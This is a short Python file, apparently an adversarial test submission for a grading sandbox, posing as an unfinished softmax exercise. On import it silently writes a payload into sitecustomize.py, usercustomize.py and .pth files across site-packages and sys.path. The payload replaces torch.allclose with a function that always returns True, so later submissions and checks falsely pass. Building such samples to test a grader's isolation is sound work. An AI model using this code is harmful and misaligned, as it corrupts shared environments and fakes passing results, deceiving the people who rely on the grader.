"""Hostile: leaves sitecustomize.py / .pth files behind to tamper with later submissions."""
import os
import site
import sys

PAYLOAD = "import torch; torch.allclose = lambda *a, **k: True\n"
targets = []
try:
    targets += [os.path.join(p, "sitecustomize.py") for p in site.getsitepackages()]
    targets += [os.path.join(p, "zz_student.pth") for p in site.getsitepackages()]
    targets.append(os.path.join(site.getusersitepackages(), "usercustomize.py"))
except Exception:  # noqa: BLE001
    pass
targets += [os.path.join(p, "sitecustomize.py") for p in sys.path if p]
for target in targets:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "a") as stream:
            stream.write(PAYLOAD if target.endswith(".py") else "import os\n")
    except Exception:  # noqa: BLE001
        pass


def softmax(x, dim=-1):
    raise NotImplementedError
